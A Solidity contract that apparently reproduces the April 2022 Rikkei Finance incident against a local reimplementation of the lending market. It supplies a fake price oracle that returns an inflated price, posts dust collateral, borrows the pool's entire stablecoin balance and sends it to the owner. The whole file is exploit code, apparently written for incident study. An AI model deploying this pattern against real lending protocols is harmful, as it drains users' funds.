// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {ImplACLending, ImplACPriceSource} from "../incidents/ImplACLending.sol";

/// @title ImplACAttacker
/// @notice Rikkei Finance (Apr 2022): a price source that says whatever the
/// attacker wants, plugged into the market through its unprotected setter,
/// then a borrow of the whole pool against dust collateral.
contract ImplACAttacker is ImplACPriceSource {
    address public immutable owner;

    error NotOwner();

    constructor() {
        owner = msg.sender;
    }

    /// @inheritdoc ImplACPriceSource
    function getUnderlyingPrice(address) external pure returns (uint256) {
        return 1e36;
    }

    /// @notice Posts this contract's collateral and borrows all the USDx.
    function attack(ImplACLending market) external {
        if (msg.sender != owner) revert NotOwner();
        IERC20 coll = market.collateral();
        IERC20 usd = market.usd();
        uint256 amount = coll.balanceOf(address(this));
        coll.approve(address(market), amount);
        market.depositCollateral(amount);
        market.borrow(usd.balanceOf(address(market)));
        usd.transfer(owner, usd.balanceOf(address(this)));
    }
}
